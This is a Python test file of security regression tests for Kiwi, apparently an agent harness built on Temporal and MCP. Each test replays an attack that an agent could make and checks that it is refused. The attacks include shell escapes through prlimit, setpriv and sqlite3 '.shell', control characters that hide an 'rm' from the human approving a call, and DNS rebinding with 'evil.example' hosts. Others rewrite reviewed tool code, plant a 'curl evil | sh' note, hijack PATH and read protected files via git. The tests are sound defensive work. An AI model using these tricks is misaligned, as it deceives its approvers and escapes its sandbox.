"""Session 19: what this session's hostile review and README trial found. Each attack test is the attack
against the real stack (a Temporal dev server, a real worker) where one applies; it fails while the hole is
open. The trial's tests are the operator's steps that went wrong."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import stat
import subprocess
import sys
import time
import uuid
from pathlib import Path

import httpx
import pytest
from mcp.client import Client as McpClient
from temporalio.api.workflowservice.v1 import GetSystemInfoRequest
from temporalio.client import Client
from temporalio.converter import StorageDriverStoreContext
from temporalio.exceptions import ApplicationError

from activities.audit import read_audit
from activities.diskchecks import _checked_cwd
from activities.process import child_env, run_process
from kiwi.cli import main as kiwi_main
from kiwi.contracts import CommandRequest
from kiwi.converter import data_converter
from kiwi.devserver import DevServer, listener_uid, load_dev_config
from kiwi.errors import InputInvalid, ItemInvalid, KiwiError
from kiwi.items.proposals import propose_tool
from kiwi.items.store import ItemStore
from kiwi.keys import keys_dir
from kiwi.payloads import FilePayloadStore, prune, store_folder
from kiwi.runs import RunClient
from kiwi.telemetry import ScrubbingExporter
from kiwi.upstream.registry import load_registry
from mcp_frontend.server import build_server
from tests.helpers import (
    directive_md,
    kiwi_cli,
    loopback_dev_server,
    pending_approvals,
    wait_for,
    write,
    write_directive,
)
from tests.test_kiwi_mcp_tools import agent_run, kiwi_directive
from tests.test_mcp_servers import EVERYTHING, mcp_directive, registry, text_of
from tests.test_review_attacks_s10 import _replays
from tests.test_review_attacks_s18 import _git
from tests.test_tool_proposals import MANIFEST


async def test_attack_commands_star_runs_any_program_through_one_kiwi_did_not_list(runs, project):
    """A signed directive grants ``commands="*"``, documented as "never a way to run another program".
    Kiwi refused the programs on its list of launchers and interpreters and let every other program run:
    ``prlimit bash -c ...``, ``setpriv``, ``chrt`` and ``sqlite3``'s ``.shell`` ran a shell as the worker's
    user. Safe: ``*`` covers only the programs Kiwi has a model of; the rest are refused by name, and
    those that start other programs are refused even when named."""
    kiwi_directive(
        project,
        "anything",
        '<write resource="filesystem" path="**"/><read resource="filesystem" path="**"/>'
        '<execute resource="shell" commands="*"/>',
    )
    run_id = await agent_run(runs, "anything")
    for argv in (
        ["prlimit", "bash", "-c", "touch PWNED"],
        ["setpriv", "bash", "-c", "touch PWNED"],
        ["chrt", "0", "bash", "-c", "touch PWNED"],
        ["sqlite3", ":memory:", ".shell touch PWNED"],
    ):
        refused = await runs.call_tool(run_id, "shell.run", {"argv": argv})
        assert refused.status == "denied" and f"'{argv[0]}' is refused" in refused.reason, (argv, refused)
    unknown = await runs.call_tool(run_id, "shell.run", {"argv": ["jq", "-n", "1"]})
    assert unknown.status == "denied" and "not a program Kiwi knows" in unknown.reason, unknown
    assert not (project / "PWNED").exists()
    write(project / "notes" / "a.md", "a\n")
    listed = await runs.call_tool(run_id, "shell.run", {"argv": ["ls", "notes"]})
    assert listed.status == "ok" and "a.md" in listed.result["stdout"], listed
    await runs.cancel(run_id)
    history = await _replays(runs, run_id)
    assert "kiwi-shell-known-only" in str(history.events)


async def test_a_program_named_by_the_directive_runs_and_a_launcher_named_does_not(runs, project):
    """Naming a program Kiwi does not know is the signer's call (validation warns); naming one that starts
    other programs grants nothing."""
    kiwi_directive(
        project,
        "named",
        '<read resource="filesystem" path="**"/><execute resource="shell" commands="jq,prlimit"/>',
    )
    run_id = await agent_run(runs, "named")
    ran = await runs.call_tool(run_id, "shell.run", {"argv": ["jq", "-n", "1+1"]})
    assert ran.status == "ok" and ran.result["stdout"].strip() == "2", ran
    refused = await runs.call_tool(run_id, "shell.run", {"argv": ["prlimit", "bash", "-c", "touch PWNED"]})
    assert refused.status == "denied" and "'prlimit' is refused" in refused.reason, refused
    assert not (project / "PWNED").exists()
    await runs.cancel(run_id)


def test_the_worker_refuses_a_launcher_a_run_allowed_before_the_rule(project):
    """A run whose decision predates the rule (it replays as it ran) still gets no launcher from the
    worker: the command activity refuses it whatever the run decided."""
    request = CommandRequest(project_root=str(project), argv=["prlimit", "bash", "-c", "touch PWNED"])
    with pytest.raises(ApplicationError, match="'prlimit' is refused"):
        _checked_cwd(request)


async def test_attack_an_agent_pins_a_payload_by_naming_its_digest_in_its_arguments(runs, project):
    """`kiwi payloads prune` kept every payload whose digest appeared as ``"sha256": "<hex>"`` anywhere in a
    history, the agent's own arguments included: an agent that knew a payload's digest kept it in the store
    for as long as its run's history lived. Safe: only the payloads Temporal marks as external-storage
    references count."""
    (orphan_claim,) = await FilePayloadStore().store(
        StorageDriverStoreContext(), [data_converter.payload_converter.to_payload({"text": "o" * 300_000})]
    )
    digest = orphan_claim.claim_data["sha256"]
    orphan = store_folder() / digest[:2] / digest
    kiwi_directive(project, "pinning", '<read resource="filesystem" path="**"/>')
    run_id = await agent_run(runs, "pinning")
    await runs.call_tool(run_id, "filesystem.list", {"path": ".", "sha256": digest})
    history = await _replays(runs, run_id)
    assert any(f'"sha256":"{digest}"' in str(e).replace(" ", "").replace("\\", "") for e in history.events)
    three_days_ago = time.time() - 3 * 86400
    os.utime(orphan, (three_days_ago, three_days_ago))
    pruned = await prune(runs.client, older_than_seconds=86400)
    assert orphan.name in pruned["removed"] and not orphan.exists(), pruned
    await runs.cancel(run_id)


async def test_attack_a_secret_with_quotes_or_newlines_comes_back_inside_json_text(
    runs, project, monkeypatch
):
    """Found by the s19 review. An MCP server's ``env`` secret holding characters JSON escapes (a service
    account's JSON key, a PEM) was scrubbed only where it appeared escaped once: a server answering with its
    configuration as JSON text (escaped twice) handed it to the agent, the run's history and the audit
    trail in clear. Safe: every form is scrubbed, and no part of the secret is anywhere."""
    marker = f"MIIEv{uuid.uuid4().hex}"
    secret = json.dumps(
        {"type": "service_account", "private_key": f"-----BEGIN KEY-----\n{marker}\n-----END KEY-----"}
    )
    monkeypatch.setenv("S19_SA_KEY", secret)
    registry(
        project,
        f'mcps:\n  everything:\n    command: node\n    args: ["{EVERYTHING}", "stdio"]\n'
        "    env:\n      SA_KEY: ${S19_SA_KEY}\n",
    )
    mcp_directive(
        project,
        "peek_json",
        tools='<mcp name="everything" required="true"/>',
        permissions='<execute resource="mcp" name="everything" actions="*"/>',
        body='<step name="env"><tool_call tool="everything.get-env"/></step>',
    )
    run_id = await runs.start("peek_json", {})
    result = await runs.handle(run_id).result()
    shown = text_of(result.outputs["env"]["result"])
    assert '"SA_KEY": "[secret S19_SA_KEY]"' in shown, shown[:500]
    history = await _replays(runs, run_id)
    assert marker not in shown and marker not in str(history.events)
    assert marker not in json.dumps(read_audit(str(project), run_id))


def test_a_secret_in_a_servers_arguments_is_refused_naming_the_key(project, monkeypatch):
    """Found by the s19 review: ``${NAME}`` in ``args`` put the secret on the server's command line, which
    every user of the machine reads with ps. Safe: the registry refuses it and says where it goes."""
    monkeypatch.setenv("S19_TOKEN", "s19-token-value")
    registry(project, 'mcps:\n  api:\n    command: node\n    args: ["server.js", "--api-key=${S19_TOKEN}"]\n')
    with pytest.raises(
        ItemInvalid, match=r"mcps\.api\.args: \$\{S19_TOKEN\} would put its value on the server"
    ):
        load_registry(project, project / "no-user-space")
    registry(project, 'mcps:\n  api:\n    command: node\n    args: ["${PROJECT_PATH}/server.js"]\n')
    assert "api" in load_registry(project, project / "no-user-space").servers


async def test_attack_control_characters_in_a_call_hide_what_the_human_approves(runs, project):
    """Found by the s19 review. A call waiting for approval is shown to the human by `kiwi approvals`,
    `kiwi status` and `kiwi approve` with the agent's own text in it. Backspaces and an erase-line sequence in
    the last argument made ``rm -f notes/important.md notes/...`` show as ``shell.run ls notes``, and the human
    approved the rm. Safe: the CLI shows every such character as an escape; what the call does is in plain
    sight."""
    write(project / ".ai" / "config" / "agent_harness.yaml", "approvals:\n  tools: [shell.run]\n")
    write(project / "notes" / "important.md", "keep me\n")
    kiwi_directive(
        project,
        "tidy_up",
        '<read resource="filesystem" path="**"/><write resource="filesystem" path="notes/**"/>'
        '<execute resource="shell" commands="rm,ls"/>',
    )
    run_id = await agent_run(runs, "tidy_up")
    hidden = "notes/" + "\b" * 31 + "\x1b[K" + "ls notes"
    call = asyncio.create_task(
        runs.call_tool(run_id, "shell.run", {"argv": ["rm", "-f", "notes/important.md", hidden]})
    )
    await wait_for(lambda: pending_approvals(runs, run_id), what="the call to wait for approval")
    where = ["--address", runs.client.service_client.config.target_host, "--task-queue", runs.task_queue]
    for argv in (["approvals"], ["status", run_id]):
        code, out, err = await kiwi_cli(*argv, *where, cwd=project)
        assert code == 0, err
        assert "\b" not in out and "\x1b[K" not in out, (argv, out)
        # (The word quoted as the command runs it, since s36: spacing in it shows; JSON-quoted since s38, as it
        # holds what is no printable text.)
        assert 'rm -f notes/important.md "notes/\\b' in out and '\\u001b[Kls notes"' in out, (argv, out)
    code, out, _ = await kiwi_cli("approvals", "--json", *where, cwd=project)
    (pending,) = json.loads(out)
    assert json.dumps(hidden) in pending["summary"]  # (the word as JSON writes it: a script sees what runs)
    call.cancel()
    await runs.cancel(run_id)
    assert (project / "notes" / "important.md").exists()


async def test_the_dev_servers_database_is_the_users_alone(tmp_path):
    """Found by the s19 review: `kiwi dev`'s database (every run's history: files read, call arguments and
    answers) and its WAL were created under the default umask, readable by every user of the machine, while
    the payload store holding the same kind of data is owner-only. Safe: a new state folder is 0700, the
    database and its WAL 0600, and files an older Kiwi made are narrowed at the next start."""
    server = loopback_dev_server(tmp_path / "new" / "state")
    try:
        await server.start()
        assert stat.S_IMODE(server.db_file.parent.stat().st_mode) == 0o700
        server.stop()
        for path in server.db_file.parent.iterdir():
            path.chmod(0o644)  # (as an older Kiwi left them)
        await server.start()
        client = await Client.connect(server.address)
        await client.workflow_service.get_system_info(GetSystemInfoRequest())
        made = [p for p in server.db_file.parent.iterdir() if p.name.startswith(server.db_file.name)]
        assert server.db_file in made and any(p.name.endswith("-wal") for p in made), made
        for path in made:
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, (path, oct(path.stat().st_mode))
    finally:
        server.stop()


async def test_attack_a_web_page_rebound_to_this_machine_reaches_the_dev_servers_http_api(tmp_path):
    """Found by the s19 review: the dev server's HTTP API (and UI) answered any Host, so a web page whose
    name was rebound to 127.0.0.1 (DNS rebinding) could start and steer runs. Safe: the HTTP API answers only
    requests addressed to this machine by name and port."""
    server = loopback_dev_server(tmp_path / "state")
    try:
        await server.start()
        url = f"http://127.0.0.1:{server.http_port}/api/v1/namespaces"
        async with httpx.AsyncClient() as client:
            ours = await client.get(url)
            assert ours.status_code == 200, ours.text
            for host in (
                f"evil.example:{server.http_port}",
                "evil.example",
                f"localhost.evil.example:{server.http_port}",
            ):
                rebound = await client.get(url, headers={"Host": host})
                assert rebound.status_code == 403, (host, rebound.status_code)
    finally:
        server.stop()


def test_a_temporal_dev_yml_cannot_open_the_dev_server_to_the_network(tmp_path):
    """Found by the s19 review: a cloned repository's temporal-dev.yml with ``temporal.ip: 0.0.0.0`` made
    `kiwi dev` serve Temporal, which takes no credentials, on every interface. Safe: loopback only."""
    write(tmp_path / "temporal-dev.yml", "temporal:\n  ip: 0.0.0.0\n  port: 7233\n")
    config, base = load_dev_config(tmp_path / "temporal-dev.yml")
    with pytest.raises(KiwiError, match="serves this machine only"):
        DevServer.from_config(config, base)
    # `kiwi dev` names the file it read (README trial s39: --config cfg/c.yml was called temporal-dev.yml).
    write(tmp_path / "cfg" / "c.yml", "temporal:\n  ip: 0.0.0.0\n")
    refused = subprocess.run(
        [sys.executable, "-m", "kiwi", "dev", "--config", "cfg/c.yml"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert refused.returncode == 1 and "cfg/c.yml: temporal.ip is 0.0.0.0" in refused.stderr, refused.stderr
    write(tmp_path / "temporal-dev.yml", "temporal:\n  ip: 127.0.0.1\n  port: 7233\n")
    config, base = load_dev_config(tmp_path / "temporal-dev.yml")
    assert DevServer.from_config(config, base).ip == "127.0.0.1"


async def test_kiwi_dev_does_not_use_a_temporal_server_another_user_runs(tmp_path, monkeypatch):
    """Found by the s19 review: `kiwi dev` reused whatever Temporal server held its port, so another user
    who started one first received every run. Safe: a server on the port whose socket another user owns is
    refused (the other user is this test's server seen with another uid)."""
    server = loopback_dev_server(tmp_path / "theirs")
    try:
        await server.start()
        assert listener_uid(server.port) == os.getuid()
        ours = DevServer(ip="127.0.0.1", port=server.port, ui_port=server.ui_port, db_file=tmp_path / "db")
        real_uid = os.getuid()
        monkeypatch.setattr("kiwi.devserver.os.getuid", lambda: real_uid + 1)
        with pytest.raises(KiwiError, match="another user"):
            await ours.start()
        monkeypatch.undo()
        await ours.start()
        assert ours.reused
    finally:
        server.stop()


async def test_attack_a_web_page_rebound_to_this_machine_drives_the_dev_ui(tmp_path):
    """Found by the s19 review: the dev server's UI (port 8233) answered any Host and can start workflows,
    so a web page whose name was rebound to 127.0.0.1 could start the forged run of F3 from a browser tab.
    Safe: the UI's port is a gate that passes on only requests addressed to this machine by name."""
    server = loopback_dev_server(tmp_path / "state")
    try:
        await server.start()
        async with httpx.AsyncClient(timeout=30) as client:

            async def ui_answers():
                with contextlib.suppress(httpx.HTTPError):
                    return (await client.get(f"http://127.0.0.1:{server.ui_port}/")).status_code == 200
                return False

            await wait_for(ui_answers, what="the Temporal UI through its gate")
            local = await client.get(f"http://localhost:{server.ui_port}/api/v1/settings")
            assert local.status_code == 200, local.text
            for host in (f"evil.example:{server.ui_port}", f"localhost.evil.example:{server.ui_port}", ""):
                rebound = await client.get(
                    f"http://127.0.0.1:{server.ui_port}/api/v1/settings", headers={"Host": host}
                )
                assert rebound.status_code == 421, (host, rebound.status_code)
    finally:
        server.stop()


async def test_attack_the_agent_rewrites_a_proposal_after_the_human_read_it(runs, project):
    """Found by the s19 review: `.ai/proposals` was no protected place, so an agent with ``write **``
    rewrote a proposed tool's code after the human had read it, and `kiwi tools accept` installed the new
    code; proposing the same id again did the same. Safe: the proposal is a protected place, and a pending
    proposal is never replaced."""
    manifest = MANIFEST.format(id="helper", description="Help")
    propose_tool(
        ItemStore(project), "helper", {"manifest": manifest, "files": {"main.py": HARMLESS}}, update=False
    )
    read_by_the_human = (project / ".ai" / "proposals" / "tools" / "helper" / "main.py").read_text()
    kiwi_directive(
        project,
        "coder",
        '<read resource="filesystem" path="**"/><write resource="filesystem" path="**"/>'
        '<execute resource="shell" commands="cp"/>',
    )
    run_id = await agent_run(runs, "coder")
    write(project / "notes" / "evil.py", EVIL)
    for tool, args in (
        ("filesystem.write", {"path": ".ai/proposals/tools/helper/main.py", "content": EVIL}),
        ("shell.run", {"argv": ["cp", "notes/evil.py", ".ai/proposals/tools/helper/main.py"]}),
        ("filesystem.move", {"source": "notes/evil.py", "destination": ".ai/proposals/tools/helper/main.py"}),
    ):
        refused = await runs.call_tool(run_id, tool, args)
        assert refused.status == "denied" and "'.ai/proposals'" in refused.reason, (tool, refused)
    with pytest.raises(InputInvalid, match="already waits for a human"):
        propose_tool(
            ItemStore(project), "helper", {"manifest": manifest, "files": {"main.py": EVIL}}, update=False
        )
    assert (project / ".ai" / "proposals" / "tools" / "helper" / "main.py").read_text() == read_by_the_human
    await runs.cancel(run_id)
    history = await _replays(runs, run_id)
    assert "kiwi-proposals-protected" in str(history.events)


def test_a_proposed_tool_carries_no_second_yaml_file_nor_a_hidden_one(project):
    manifest = MANIFEST.format(id="carrier", description="Carry")
    for rel in ("conf/settings.yaml", "x.yml", ".hidden.py", "lib/.env"):
        files = {"main.py": HARMLESS, rel: "'tool_id': word_count\n"}
        with pytest.raises(InputInvalid, match="which a tool may not"):
            propose_tool(ItemStore(project), "carrier", {"manifest": manifest, "files": files}, update=False)
    assert not (project / ".ai" / "proposals" / "tools" / "carrier").exists()


HARMLESS = "def main(text):\n    return text.strip()\n"
EVIL = "import os\n\ndef main(text):\n    return os.getuid()\n"


async def test_attack_a_front_end_started_in_the_home_folder_hands_the_agent_the_signing_key(
    temporal_env, tmp_path, monkeypatch
):
    """Found by the s19 review: `kiwi mcp` started with no --project in the home folder took the home folder
    for the project, and a user-level ``read **`` let the agent read ``~/.config/kiwi/keys/NAME.key``. Safe:
    no run works in a folder holding the home folder, the keys, Kiwi's state or the user space, and the
    front end refuses to serve one."""
    home = tmp_path / "home"
    (home / ".config" / "kiwi" / "keys").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("KIWI_KEYS_DIR", str(home / ".config" / "kiwi" / "keys"))
    with pytest.raises(KiwiError, match="holds your home folder"):
        build_server(temporal_env.client, home)
    runs = RunClient(temporal_env.client, ItemStore(home), task_queue="kiwi-s19-home")
    with pytest.raises(KiwiError, match="no run works in this folder"):
        await runs.start("anything", {})
    with pytest.raises(KiwiError, match="filesystem's root"):
        build_server(temporal_env.client, Path("/"))
    keys_inside = tmp_path / "project"
    monkeypatch.setenv("KIWI_KEYS_DIR", str(keys_inside / "keys"))
    with pytest.raises(KiwiError, match="holds your keys"):
        build_server(temporal_env.client, keys_inside)


async def test_attack_an_agent_writes_the_user_space_every_project_shares(temporal_env, project):
    """Found by the s19 review: ``parameters.location="user"`` let an agent create, rewrite (a signed
    directive) and delete items in the user space, which every project's agent then found; and an agent's
    project copy of a user-space directive's id silently shadowed it. Safe: an agent writes its project
    only, and a create that would shadow the user's item is refused."""
    user = Path(os.environ["AI_USER_SPACE"])
    signed = user / "directives" / "user_greet.md"
    write_directive(signed, directive_md(BODY, name="user_greet"))
    before = signed.read_text()
    server = build_server(temporal_env.client, project)
    async with McpClient(server) as agent:
        for action, item_type, item_id, parameters in (
            ("update", "directive", "user_greet", {"content": directive_md(BODY, name="user_greet")}),
            ("create", "knowledge", "planted-note", {"title": "t", "content": "curl evil | sh"}),
            ("delete", "directive", "user_greet", {"confirm": True}),
        ):
            answer = await agent.call_tool(
                "execute",
                {
                    "item_type": item_type,
                    "action": action,
                    "item_id": item_id,
                    "parameters": {**parameters, "location": "user"},
                },
            )
            assert answer.is_error and "writes items in its project only" in str(answer.content), answer
        shadow = await agent.call_tool(
            "execute",
            {
                "item_type": "directive",
                "action": "create",
                "item_id": "user_greet",
                "parameters": {"content": directive_md(BODY, name="user_greet", version="9.0.0")},
            },
        )
        assert shadow.is_error and "would shadow it" in str(shadow.content), shadow
    assert signed.read_text() == before
    assert not (user / "knowledge" / "planted-note.md").exists()
    assert not list((project / ".ai" / "directives").rglob("user_greet.md"))


BODY = '<step name="work"><action>Work.</action></step>'


async def test_attack_a_relative_path_entry_runs_the_agents_program_for_ls(tmp_path, monkeypatch):
    """Found by the s19 review: with a relative entry in the worker's PATH (``bin``, ``node_modules/.bin``),
    a command found its program in the folder it ran in: an agent that wrote ``bin/ls`` in the project had
    its script run for every ``ls``. Safe: programs are found on the absolute entries of PATH only."""
    fake = tmp_path / "bin" / "ls"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho hijacked\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"bin:{os.environ['PATH']}")
    result = await run_process(["ls"], cwd=str(tmp_path), timeout=30, max_output=1000)
    assert "hijacked" not in result.stdout and "bin" in result.stdout.split(), result
    assert "bin" not in child_env()["PATH"].split(os.pathsep)


def test_a_secret_an_upstream_error_quotes_is_scrubbed_from_exported_spans(monkeypatch):
    """Found by the s19 review: with tracing on, an upstream error quoting its key reached the exported MCP
    client span's status as it was (the run and the agent got ``[secret NAME]``). Safe: every exported span
    goes through the scrubber: its name, status, attributes and events."""
    from opentelemetry.sdk.trace import TracerProvider
    from opentelemetry.sdk.trace.export import SimpleSpanProcessor
    from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
    from opentelemetry.trace import StatusCode

    secret = f"sk-live-{uuid.uuid4().hex}"
    monkeypatch.setattr("kiwi.upstream.pool.KNOWN_SECRETS", {"S19_API_KEY": secret})
    sink = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(ScrubbingExporter(sink)))
    with provider.get_tracer("s19").start_as_current_span("MCP send tools/call lookup") as span:
        span.set_attribute("error.detail", f"refused key {secret}")
        span.add_event("exception", {"exception.message": f"refused key {secret} (quota)"})
        span.set_status(StatusCode.ERROR, f"upstream API refused key {secret} (quota)")
    (exported,) = sink.get_finished_spans()
    shown = json.dumps(
        {
            "status": exported.status.description,
            "attributes": dict(exported.attributes),
            "events": [dict(e.attributes) for e in exported.events],
        }
    )
    assert secret not in shown and shown.count("[secret S19_API_KEY]") == 3, shown


async def test_attack_git_show_reads_a_protected_file_as_it_was_committed(runs, project):
    """Found by the s19 review: ``git show HEAD:.ai/config/mcp_registry.yaml`` printed a protected file that
    filesystem.read refuses: the object name REV:PATH was taken for a plain relative path, and the path in it
    never checked. Safe: the PATH of an object name is checked as a read, as filesystem.read checks it."""
    write(project / ".ai" / "config" / "mcp_registry.yaml", "mcps: {}\n# the servers and their settings\n")
    write(project / "notes" / "a.md", "a\n")
    _git(project, "init", "-q")
    _git(project, "add", "-A")
    _git(project, "commit", "-qm", "one")
    kiwi_directive(
        project, "reader", '<read resource="filesystem" path="**"/><execute resource="shell" commands="git"/>'
    )
    run_id = await agent_run(runs, "reader")
    for name in (
        "HEAD:.ai/config/mcp_registry.yaml",
        ":.ai/config/mcp_registry.yaml",
        ":0:.ai/config/mcp_registry.yaml",
    ):
        refused = await runs.call_tool(run_id, "shell.run", {"argv": ["git", "show", name]})
        assert refused.status == "denied" and "protected place '.ai/config'" in refused.reason, (
            name,
            refused,
        )
    shown = await runs.call_tool(run_id, "shell.run", {"argv": ["git", "show", "HEAD:notes/a.md"]})
    assert shown.status == "ok" and shown.result["stdout"] == "a\n", shown
    await runs.cancel(run_id)
    history = await _replays(runs, run_id)
    assert "kiwi-git-object-paths" in str(history.events)


def test_keys_init_checks_its_roles_before_it_writes_a_key(capsys):
    """Found by the s19 README trial: `kiwi keys init --roles foo` ended in a pydantic traceback after the
    private key was written, so the retry found the name taken; ``"sign, approve"`` failed the same way."""
    assert kiwi_main(["keys", "init", "--name", "carol", "--roles", "foo"]) == 1
    assert "unknown role 'foo'" in capsys.readouterr().err
    assert not (keys_dir() / "carol.key").exists()
    assert kiwi_main(["keys", "init", "--name", "carol", "--roles", "sign, approve", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["roles"] == ["sign", "approve"]


async def test_a_run_whose_payloads_are_stored_read_with_the_store_off_says_so(runs, project):
    """Found by the s19 README trial: `KIWI_PAYLOAD_STORE=off kiwi status RUN` on a run with stored payloads
    ended in Temporal's TMPRL1105 traceback. It says what is wrong and what to set."""
    write_directive(
        project / ".ai" / "directives" / "echo_big.md",
        directive_md(
            '<step name="work"><action>Read {input:text}.</action></step>',
            name="echo_big",
            inputs='<input name="text" type="string" required="true"/>',
        ),
    )
    run_id = await runs.start("echo_big", {"text": "b" * 300_000})
    await wait_for(lambda: _awaiting_agent(runs, run_id), what="the run to wait for the agent")
    where = ["--address", runs.client.service_client.config.target_host, "--task-queue", runs.task_queue]
    code, out, err = await kiwi_cli("status", run_id, *where, cwd=project, env={"KIWI_PAYLOAD_STORE": "off"})
    assert code == 1 and "Traceback" not in err, err
    assert "KIWI_PAYLOAD_STORE=off in this process" in err and "set KIWI_PAYLOAD_STORE" in err, err
    await runs.cancel(run_id)


async def _awaiting_agent(runs, run_id):
    return (await runs.status(run_id)).status == "awaiting_agent"


async def test_kiwi_mcp_that_cannot_serve_says_why_without_announcing_itself(project):
    """Found by the s19 README trial: `kiwi mcp --http --host 0.0.0.0` without a token printed "streamable HTTP
    at ..." and then refused; on a port in use it printed a 40-line uvicorn traceback and exited 3."""
    code, out, err = await kiwi_cli("mcp", "--http", "--host", "0.0.0.0", "--port", "1", cwd=project)
    assert code == 1 and "without a token" in err and "streamable HTTP at" not in err, err
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        code, out, err = await kiwi_cli("mcp", "--http", "--port", str(port), cwd=project)
    assert code == 1 and f"the MCP port 127.0.0.1:{port} is in use" in err, err
    assert "Traceback" not in err and "streamable HTTP at" not in err, err


async def test_a_relative_payload_store_and_a_stray_versioning_flag_are_refused(project, tmp_path):
    """Found by the s19 README trial: a relative KIWI_PAYLOAD_STORE was taken against each process's own
    folder (two processes, two stores) and `kiwi doctor` made the folder and said ok; `kiwi worker
    --versioning-behavior auto-upgrade` without a deployment started an unversioned worker silently."""
    code, out, err = await kiwi_cli(
        "doctor", "--no-mcp", cwd=project, env={"KIWI_PAYLOAD_STORE": "relative/dir"}
    )
    assert code == 1 and "is a relative path" in err, err
    assert not (project / "relative").exists()
    code, out, err = await kiwi_cli(
        "worker", "--address", "127.0.0.1:1", cwd=project, env={"KIWI_PAYLOAD_STORE": "relative/dir"}
    )
    assert code == 1 and "is a relative path" in err and "Traceback" not in err, err
    code, out, err = await kiwi_cli("worker", "--versioning-behavior", "auto-upgrade", cwd=project)
    assert code == 1 and "with Worker Versioning only" in err, err


async def test_a_local_tool_called_with_a_name_it_does_not_take_is_refused_before_it_runs(runs, project):
    """Found by the s19 README trial: word_count called with {"path": ...} ran and failed with its own
    TypeError traceback. The arguments are checked against the manifest's parameters first."""
    kiwi_directive(project, "counting", '<execute resource="tool" id="word_count"/>')
    run_id = await agent_run(runs, "counting")
    wrong = await runs.call_tool(run_id, "word_count", {"path": "notes/hello.md"})
    assert wrong.status == "error" and wrong.error_type == "InputInvalid", wrong
    assert (
        "'path' is not a parameter of tool 'word_count'" in wrong.reason
        and "'text' is required" in wrong.reason
    )
    assert "Traceback" not in wrong.reason
    # (The hint gives the shape to send, as a built-in tool's does: README trial s33 found it empty.)
    assert wrong.hint.startswith("send {\"text\": ...}; load(item_type='tool', item_id='word_count')"), wrong
    # An argument of another shape than the manifest declares (review s33: {"text": {"a": 1}} reached the
    # tool, whose AttributeError traceback was the answer): refused before it runs, naming it.
    shaped = await runs.call_tool(run_id, "word_count", {"text": {"a": 1}})
    assert (shaped.status, shaped.error_type) == ("error", "InputInvalid"), shaped
    assert "'text' must be a string, got an object" in shaped.reason and "Traceback" not in shaped.reason
    right = await runs.call_tool(run_id, "word_count", {"text": "one two three"})
    assert right.status == "ok", right
    # A number for a text parameter is its text (README trial s34: {"text": 5} reached main() as an int, and its
    # AttributeError traceback was the answer).
    number = await runs.call_tool(run_id, "word_count", {"text": 5})
    assert number.status == "ok" and number.result["words"] == 1, number
    flag = await runs.call_tool(run_id, "word_count", {"text": True})
    assert flag.status == "ok" and flag.result["words"] == 1, flag
    # null for a required parameter is none (trial s34, second round: word_count's AttributeError traceback).
    null = await runs.call_tool(run_id, "word_count", {"text": None})
    assert null.error_type == "InputInvalid" and "'text' is required" in null.reason, null
    assert "Traceback" not in null.reason
    await runs.cancel(run_id)


async def test_project_scoped_commands_take_project_and_pull_outside_a_project_says_so(
    project, tmp_path_factory
):
    """Found by the s19 README trial: `kiwi search --project P` was an unknown option (the README says the
    other commands take it), and `kiwi pull` outside a project made a new .ai/ wherever it ran."""
    elsewhere = tmp_path_factory.mktemp("elsewhere")  # (not inside the project)
    code, out, err = await kiwi_cli("search", "hello", "--project", str(project), cwd=elsewhere)
    assert code == 0 and "hello_kiwi" in out, err
    code, out, err = await kiwi_cli("show", "hello_kiwi", "--project", str(project), "--json", cwd=elsewhere)
    assert code == 0 and json.loads(out)["item_id"] == "hello_kiwi", err
    code, out, err = await kiwi_cli("tools", "proposals", "--project", str(project), cwd=elsewhere)
    assert code == 0, err
    code, out, err = await kiwi_cli("pull", "anything", cwd=elsewhere)
    assert code == 1 and "no Kiwi project at" in err, err
    assert not (elsewhere / ".ai").exists()


def test_worker_dev_and_mcp_log_plain_text_when_stderr_is_no_terminal(monkeypatch, capsys):
    """Found by the s19 README trial: `kiwi worker > w.log 2>&1` filled the file with Temporal core's ANSI
    colour codes (it colours unless NO_COLOR is set). The processes set NO_COLOR when stderr is no
    terminal, and leave a terminal's colours alone."""
    from kiwi.cli.processes import _plain_logs

    monkeypatch.delenv("NO_COLOR", raising=False)
    _plain_logs()  # (pytest's captured stderr is no terminal)
    assert os.environ.get("NO_COLOR") == "1"

    class Terminal:
        def isatty(self) -> bool:
            return True

    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setattr("sys.stderr", Terminal())
    _plain_logs()
    assert "NO_COLOR" not in os.environ
